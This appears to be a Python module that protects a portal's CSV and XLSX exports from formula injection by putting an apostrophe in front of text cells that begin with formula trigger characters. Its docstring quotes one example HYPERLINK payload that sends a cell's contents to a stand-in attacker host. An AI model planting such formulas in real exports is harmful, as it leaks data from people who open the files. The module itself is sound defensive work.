"""Cells of every file the portal exports, safe to open in a spreadsheet.

A producer or product name such as `=HYPERLINK("http://evil.example/?x="&B2,"x")` used to
become a live formula in the XLSX exports and the council's offline sheet, and CSV cells
beginning with `= + - @` were written as they were: whoever opened the file ran them.

The rule is OWASP's for CSV injection, applied to CSV and XLSX alike: a text cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms, which some
spreadsheets also read as formulas) is written with a leading apostrophe, so it is shown as
the text it is. Numbers, dates and booleans are written as such (a negative number is a
number, not text). Every export goes through this module: `safe_cell` for one value,
`safe_row` for a row, `workbook_bytes` to save an openpyxl workbook built in memory after
neutralising every text cell in it (formulas the portal wrote on purpose do not exist).
"""

from __future__ import annotations

import io
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value):
    """`value`, or for a text that a spreadsheet would read as a formula, that text quoted."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


def neutralise_workbook(book) -> None:
    """Quote every text cell of an in-memory workbook that would be read as a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(TRIGGERS):
                    cell.value = "'" + value  # also turns openpyxl's formula type back to text


def workbook_bytes(book) -> bytes:
    """The .xlsx file of an in-memory workbook, every text cell neutralised."""
    neutralise_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
